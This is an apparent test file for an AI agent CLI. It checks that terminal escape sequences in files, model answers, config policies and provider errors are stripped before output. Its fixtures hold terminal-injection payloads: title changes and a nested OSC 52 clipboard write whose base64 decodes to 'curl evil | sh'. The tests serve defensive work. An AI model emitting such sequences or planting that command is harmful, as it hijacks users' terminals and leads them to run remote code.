import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { runFence, useCliRun } from '../support/run-cli';
import { startTerminalSession, type TerminalSession } from '../support/terminal-session';

const cli = useCliRun();

let running: TerminalSession | undefined;

afterEach(() => {
  running?.kill();
  running = undefined;
});

/** Anything a terminal would act on rather than show: ESC, BEL and the other C0 controls but tab and line feed, C1 controls. */
const LIVE = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

/** A file of a hostile repository: a title and a clipboard write, one of them nested so that a single-pass strip joins it up. */
const HOSTILE_NOTES = 'first line\n\x1b]0;pwned\x07\x1b\x1b]0;x\x07]52;c;Y3VybCBldmlsIHwgc2g=\x07second line\n';

describe('one-shot text output', () => {
  it('shows tool results on stderr without their escape sequences, and keeps the answer exact on a pipe', { timeout: 60_000 }, async () => {
    const { server, dirs } = cli;
    writeFileSync(join(dirs.workspace, 'notes.txt'), HOSTILE_NOTES);
    const answer = 'The notes say \x1b[1mfirst line\x1b[0m.';
    server.reply((r) => r.text('```read notes.txt\n```\n')).reply((r) => r.text(answer));

    const run = await runFence(['-n', '-m', 'openai/gpt-test', 'what do the notes say?'], { cwd: dirs.workspace, env: cli.env() });
    expect(run.exitCode).toBe(0);
    expect(run.stderr).toContain('first line');
    expect(run.stderr).toContain('second line');
    expect(run.stderr).not.toMatch(LIVE);
    // A script reading stdout gets the answer byte for byte.
    expect(run.stdout).toBe(answer);

    const id = /^session (\S+)/m.exec(run.stderr)?.[1] ?? '';
    const shown = await runFence(['sessions', 'show', id], { cwd: dirs.workspace, env: cli.env() });
    expect(shown.exitCode).toBe(0);
    expect(shown.stdout).toContain('second line');
    expect(shown.stdout).not.toMatch(LIVE);
  });

  it('shows a program run\'s output, intent and code in fence trace and fence programs without their escape sequences', { timeout: 60_000 }, async () => {
    const { server, dirs } = cli;
    writeFileSync(join(dirs.workspace, 'notes.txt'), HOSTILE_NOTES);
    const program = '```ptc\n// intent: show the notes\x1b]0;pwned\x07\nprint(await read({ path: "notes.txt" })); // \x1b[2K\r\n```\n';
    server.reply((r) => r.text(program)).reply((r) => r.text('Shown.'));
    expect((await runFence(['-n', '-m', 'openai/gpt-test', 'show the notes'], { cwd: dirs.workspace, env: cli.env() })).exitCode).toBe(0);

    const list = await runFence(['trace', 'list'], { cwd: dirs.workspace, env: cli.env() });
    const id = list.stdout.split(/\s/)[0] ?? '';
    const shown = await runFence(['trace', 'show', id], { cwd: dirs.workspace, env: cli.env() });
    expect(shown.exitCode).toBe(0);
    expect(shown.stdout).toContain('second line');
    expect(shown.stdout).not.toMatch(LIVE);

    expect((await runFence(['programs', 'save', 'show_notes'], { cwd: dirs.workspace, env: cli.env() })).exitCode).toBe(0);
    for (const command of [['programs', 'list'], ['programs', 'show', 'show_notes']]) {
      const run = await runFence(command, { cwd: dirs.workspace, env: cli.env() });
      expect(run.exitCode).toBe(0);
      expect(run.stdout).toContain('show the notes');
      expect(run.stdout).not.toMatch(LIVE);
    }
  });

  it('writes the answer to a terminal without letting it set the title or the clipboard', { timeout: 60_000 }, async () => {
    const { server, dirs } = cli;
    server.reply((r) => r.text('Done.\x1b]0;answer-title\x07\x1b\x1b]0;x\x07]52;c;Y3VybCBldmlsIHwgc2g=\x07 All tests pass.'));
    const stderr = join(dirs.workspace, '..', 'stderr.txt');
    running = startTerminalSession({ args: ['-n', '-m', 'openai/gpt-test', 'run the tests'], cwd: dirs.workspace, env: cli.env(), stderrTo: stderr });
    expect(await running.exited).toBe(0);
    expect(running.screen().join('\n')).toContain('All tests pass.');
    expect(running.titles).toEqual([]);
    expect(running.clipboardWrites).toEqual([]);
    // stderr went to a file: the progress written there is visible text too.
    expect(readFileSync(stderr, 'utf8')).toContain('All tests pass.');
    expect(readFileSync(stderr, 'utf8')).not.toMatch(LIVE);
  });

  it('fence trust lists what a hostile fence.toml lets in without its escape sequences', { timeout: 60_000 }, async () => {
    const { dirs } = cli;
    writeFileSync(
      join(dirs.workspace, 'fence.toml'),
      ['[[policy]]', 'action = "allow"', 'tool = "read"', 'intent = "look\\u001b]0;pwned\\u0007\\u001b\\u001b]0;x\\u0007]52;c;eA==\\u0007 around"', ''].join('\n'),
    );
    const run = await runFence(['trust'], { cwd: dirs.workspace, env: cli.env() });
    expect(run.exitCode).toBe(0);
    expect(run.stdout).toContain('around');
    expect(run.stdout).not.toMatch(LIVE);
  });

  it('quotes a provider\'s error on stderr without its escape sequences', { timeout: 60_000 }, async () => {
    const { server, dirs } = cli;
    server.reply((r) => r.status(400, { message: 'bad request\x1b]0;pwned\x07\x1b\x1b]0;x\x07]52;c;eA==\x07 try again' }));
    const run = await runFence(['-n', '-m', 'openai/gpt-test', 'hello'], { cwd: dirs.workspace, env: cli.env() });
    expect(run.exitCode).not.toBe(0);
    expect(run.stderr).toContain('try again');
    expect(run.stderr).not.toMatch(LIVE);
  });
});
